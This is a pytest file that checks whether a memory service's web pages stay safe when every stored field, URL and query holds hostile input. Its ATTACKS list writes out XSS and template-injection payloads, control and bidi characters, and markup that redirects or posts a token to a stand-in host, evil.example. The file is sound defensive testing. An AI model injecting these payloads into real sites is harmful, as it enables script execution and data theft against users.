"""A memory whose every field attacks the page that shows it: over HTTP nothing becomes markup, in a browser nothing happens."""

import json
import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from bench.place import VISIBLE, Place
from memory_mcp.web.registry import PAGES
from tests.daemon.inside import Beside
from tests.hostile import LAYERED, SPELLINGS, tags
from tests.web.conftest import BY_WORDS, Tabs, address
from tests.web.everywhere import ADDRESSES, Seen, Shown, kind_of, read, walk
from tests.web.visitor import Visitor, entered

pytestmark = pytest.mark.skipif(not VISIBLE, reason="processes are looked at through /proc")

#: What a page may weigh, whatever is stored (bytes).
HEAVIEST = 300_000
WORD = "walrus"
#: Each in a field of its own; `evil` in them is what no element and no attribute of ours is called.
ATTACKS = (
    "<script>window.evil = 1</script>",
    "</script><script>window.evil = 2</script>",
    "<img src=x onerror=window.evil=3 evil=1>",
    "\"><svg onload='window.evil=4' evil=1>",
    "' onmouseover='window.evil=5' evil='1",
    '" autofocus onfocus=window.evil=6 evil="1',
    "<a href='javascript:window.evil=7'>evil</a>",
    "javascript:window.evil=8",
    "data:text/html,<script>window.evil=9</script>",
    "</title></textarea></style></noscript></template><evil-one>",
    "<!-- evil --><![CDATA[ evil ]]><?evil ?>",
    "</main></body></html><evil-two style='position:fixed;inset:0'>",
    "{{7*7}} {% for x in y %}evil{% endfor %} ${7*7} #{7*7} <%= 7*7 %> {{ visit.cookie }} {{ visit.form_token }}",
    "<iframe srcdoc='<script>parent.evil=10</script>'></iframe><object data=evil><embed src=evil><base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><link rel=stylesheet href='//evil.example/evil.css'>",
    "<form action='//evil.example/'><input name=token formaction=evil><button>evil</button>",
    "&lt;script&gt;window.evil=11&lt;/script&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e \uff1cscript\uff1e",
    "\u202eevil turned\u202c \u2066isolated\u2069 \u2067\u202b\u202d never closed \u200f\u200e\u061c",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J \x9b31m \x08\x08\x7f\r overwritten",
    "null \x00 byte, \ufffe \uffff \U0001fffe noncharacters, \ufeff mark, \u2028 line \u2029 paragraph",
    "zalgo " + "e" + "\u0301\u0302\u0303\u0304\u0305" * 40,
    "evil" * 3000,
    *SPELLINGS[:4],
    *LAYERED[:4],
)
#: A line by which the errors of all sessions are one.
ALIKE = "FatalError: the pool of the counter is closed by its keeper"
#: Half a character, as JSON spells it; importers keep the rest of the text.
HALF = "half \\ud800 a \\udfff character"


def _lines() -> Iterator[str]:
    for number, bad in enumerate(ATTACKS):
        at = 1_767_000_000_000 + number * 4_000_000
        common = {
            "session_id": f"s{number} {bad}"[:190],
            "speaker": f"Ada {bad}"[:190],
            "agent": f"agent {bad}"[:90],
            "project": f"/home/{bad}"[:190],
            "thread": bad[:90],
        }
        decided = f"We decided that the {WORD} counter number {number} is kept: {bad}"
        asked = f"{bad} Please fix the {WORD} in file {bad}, ticket {number}."
        metadata = {f"key {bad}"[:90]: bad[:900], "file": f"src/{bad}"[:900], "branch": bad[:900], "cwd": f"/home/{bad}"[:900]}
        tool = {**metadata, "tool": bad[:90], "tool_use_id": f"u{number}", "command": bad[:900]}
        edit = {"tool": "Edit", "tool_use_id": f"e{number}"}
        for step, (role, kind, text, more) in enumerate(
            (
                ("user", "user_message", asked, metadata),
                ("assistant", "tool_call", bad, tool),
                ("tool", "tool_result", f"error: {bad}\n{bad}\n{ALIKE}", {**tool, "exit_status": "1"}),
                ("assistant", "tool_call", f"Edit: {bad}", {**edit, "files": f"src/{bad}"[:900].replace("\n", " ")}),
                ("tool", "tool_result", "ok", edit),
                ("assistant", "assistant_stop", decided, metadata),
            )
        ):
            event = {"id": f"{number}-{step} {bad}"[:190], "role": role, "type": kind, "text": text, "metadata": more, **common}
            yield json.dumps({**event, "timestamp": at + step * 60_000})
    plain = {"session_id": "long", "role": "assistant", "project": "/home/long", "agent": "claude-code"}
    for step, text in enumerate(("x" * 2 * HEAVIEST, ("<b>word</b> " * 50_000)[: 2 * HEAVIEST], "a\n" * HEAVIEST)):
        yield json.dumps(
            {**plain, "id": f"long-{step}", "timestamp": 1_768_000_000_000 + step * 60_000, "text": f"{WORD} {text}"}
        )
    half = json.dumps({**plain, "id": "half", "timestamp": 1_768_000_900_000, "text": "HALF", "session_id": "half HALF"})
    yield half.replace("HALF", HALF)


@pytest.fixture(scope="module")
def served(processes: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """The program over such a memory, with corrections, names and labels that are no better."""
    folder = tmp_path_factory.mktemp("hostile")
    with Beside(folder, more=BY_WORDS) as place:
        path = Path(folder) / "bad.jsonl"
        path.write_text("".join(f"{line}\n" for line in _lines()), encoding="utf-8")
        place.ok("import", "jsonl", str(path))
        from tests.waiting import until

        until(lambda: place.run("admin", "rebuild-index", "--type", "topics").returncode == 0, "the topics")
        visitor = entered(address(place))
        token = visitor.token()
        grips = _grips(place)
        for grip, bad in zip(grips, ATTACKS, strict=False):
            visitor.act("correct", token=token, grip_id=grip, text=f"It is {bad}"[:900], reason=bad[:400])
            visitor.act("pin", token=token, id=grip, on="yes")
        for topic, bad in zip(_topics(place), ATTACKS, strict=False):
            visitor.act("label", token=token, topic_id=topic, label=bad[:50])
        visitor.act("alias", token=token, name=f"/home/{ATTACKS[0]}"[:190], same_as=f"/home/{ATTACKS[1]}"[:190])
        yield place


def _grips(place: Place) -> list[str]:
    """Grips of the first answers, twelve of them."""
    found = json.loads(place.ok("ask", f"{WORD} counter kept", "--all", "--limit", "12", "--json"))
    return re.findall(r"grip:\d+:\w+", json.dumps(found))[:12]


def _topics(place: Place) -> list[str]:
    found: dict[str, Any] = json.loads(place.ok("topics", "top", "--json", "--all"))
    return [str(one["topic_id"]) for one in found["topics"]]


@pytest.fixture(scope="module")
def everything(served: Place, pytestconfig: pytest.Config) -> tuple[Visitor, list[Shown]]:
    """Every kind of page of the memory, by its links."""
    visitor = entered(address(served))
    return visitor, list(walk(visitor, 6 if pytestconfig.getoption("--slow") else 2))


def test_every_kind_of_page_is_reached(everything: tuple[Visitor, list[Shown]]) -> None:
    _, shown = everything
    reached = Counter(one.kind for one in shown if one.reply.status == 200)
    # What is to be forgotten has a page once that was asked for.
    assert set(PAGES) - set(reached) <= {"forget/{id}"}, reached
    failed = [
        (one.address[:200], one.reply.status, one.seen.text[-300:]) for one in shown if one.reply.status != 200 and one.kind
    ]
    assert failed == []


#: Elements and attributes of our templates and drawings; what a page loads, sends or runs is looked at besides.
ELEMENTS = frozenset(
    """a abbr article aside bdi blockquote body br button caption code col colgroup datalist dd details dialog div dl dt em
    fieldset figcaption figure footer form g h1 h2 h3 h4 head header hr html input kbd label legend li link main mark meta
    meter nav ol optgroup option output p path pre progress rect circle line polyline polygon text tspan title desc script
    search section select small span strong sub summary sup svg table tbody td textarea tfoot th thead time tr ul defs""".split()
)
ATTRIBUTES = frozenset(
    """abbr action alt aria-busy aria-checked aria-controls aria-current aria-describedby aria-expanded aria-haspopup
    aria-hidden aria-label aria-labelledby aria-live aria-modal aria-pressed aria-selected autocomplete charset checked
    class cols colspan content cx cy d datetime dir disabled download dx dy fill for form font-size height hidden high href id
    inputmode label lang list low max maxlength media method min minlength multiple name novalidate open optimum pattern
    placeholder points preserveaspectratio r readonly rel required role rowspan rows rx ry scope selected size spellcheck
    src start step stroke stroke-linecap stroke-width tabindex text-anchor textlength title transform translate type value
    viewbox width x x1 x2 xmlns y y1 y2""".split()
)


def test_no_stored_text_becomes_an_element_an_attribute_or_an_address(everything: tuple[Visitor, list[Shown]]) -> None:
    visitor, shown = everything
    wrong = {one.address[:80]: found for one in shown if (found := wrong_in(visitor, one.seen))}
    assert wrong == {}


def wrong_in(visitor: Visitor, seen: Seen) -> list[tuple[str, object]]:
    """What a page holds that is not of our templates."""
    wrong: list[tuple[str, object]] = []
    for tag, attributes in seen.elements:
        names = {name for name in attributes if name not in ATTRIBUTES and not re.fullmatch(r"data-[a-z]+(-[a-z]+)?", name)}
        if tag not in ELEMENTS or names:
            wrong.append((tag, names))
        for name in ADDRESSES:
            link = attributes.get(name)
            own = link is None or link.startswith((f"{visitor.base}/", "#")) or (tag, name) == ("meta", "content")
            if not own and (tag, name, link) != ("link", "href", "data:,"):
                wrong.append((f"{tag} {name}", (link or "")[:80]))
        if tag == "script" and not attributes.get("src", "").startswith(f"{visitor.base}/static/"):
            wrong.append((tag, attributes))
        if tag == "meta" and "http-equiv" in attributes:
            wrong.append((tag, attributes))
    return wrong


def test_no_page_holds_a_character_that_steers_it_or_a_template_that_ran(everything: tuple[Visitor, list[Shown]]) -> None:
    _, shown = everything
    steering = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
    for one in shown:
        values = [value for _, attributes in one.seen.elements for value in attributes.values()]
        for text in (one.seen.text, *values):
            assert not (found := steering.search(text)), (
                one.address[:80],
                found,
                text[max(0, found.start() - 40) : found.end() + 40],
            )
        assert tags(one.seen.text) == 0, one.address[:80]
    said = " ".join(one.seen.text for one in shown)
    assert "{{7*7}}" in said
    assert "{{ visit.form_token }}" in said
    assert "window.evil" in said


def test_no_page_weighs_more_than_it_may(everything: tuple[Visitor, list[Shown]]) -> None:
    _, shown = everything
    heavy = {one.address[:80]: len(one.reply.body) for one in shown if one.kind != "export" and len(one.reply.body) > HEAVIEST}
    assert heavy == {}


#: Names that queries of pages have, and pages that take them.
QUERY = ("q", "project", "cursor", "from", "to", "offset", "since", "until", "part", "year", "agent", "before", "form")
PLACES = [p for p in "today calendar tree topics search status export projects audit forget".split() if kind_of(p)]


# That which ends an attribute and an element first.
@pytest.mark.parametrize("number", sorted(range(len(ATTACKS)), key=lambda n: n != 3))
@pytest.mark.few(1)
def test_what_an_address_says_is_no_better(everything: tuple[Visitor, list[Shown]], number: int) -> None:
    """A link that somebody sends, or that another page guesses, may hold anything; each answer is a page of ours."""
    visitor, _ = everything
    bad = ATTACKS[number]
    given = quote(bad[:900].encode("utf-8", "replace"), safe="")
    for path in (f"tree/{given}", f"grip/{given}", f"session/{given}", f"topics/{given}", given, f"today?project={given}"):
        reply = visitor.get(path)
        assert reply.status < 500, path[:100]
        if "html" in reply.headers["content-type"]:
            assert wrong_in(visitor, read(reply.text)) == [], path[:100]
    # Every name of a query with this attack, each on another page; with thirty attacks each name meets every page.
    for turn, name in enumerate(QUERY, number):
        page = PLACES[turn % len(PLACES)]
        assert visitor.get(f"{page}?{name}={given}").status < 500, (page, name)


def test_in_a_browser_nothing_runs_nothing_is_asked_and_nothing_is_turned(
    tabs: Tabs, everything: tuple[Visitor, list[Shown]], pytestconfig: pytest.Config
) -> None:
    _, shown = everything
    tab = tabs.open()
    one_of_each: dict[str, str] = {}
    for one in shown:
        if not one.is_part and one.reply.status == 200 and one.kind not in ("export", "forget"):
            one_of_each.setdefault(one.kind, one.address)
    # In the short form each third kind: all of them were read above, and all have the same head.
    for kind, path in list(one_of_each.items())[:: 1 if pytestconfig.getoption("--slow") else 3]:
        page = tab.go(path)
        page.evaluate("() => { for (const d of [...document.querySelectorAll('main details')].slice(0, 4)) d.open = true; }")
        page.wait_for_selector("[aria-busy]", state="detached")
        told = page.evaluate(
            """() => ({ran: window.evil, dir: getComputedStyle(document.body).direction, title: document.title,
                menu: getComputedStyle(document.querySelector('.top')).direction,
                wide: document.scrollingElement.scrollWidth - innerWidth,
                evil: document.querySelectorAll('[evil], evil-one').length})"""
        )
        assert (told["ran"], told["dir"], told["menu"], told["evil"]) == (None, "ltr", "ltr", 0), kind
        assert told["wide"] <= 0, (kind, told["wide"])
        assert "memory-mcp" in told["title"]
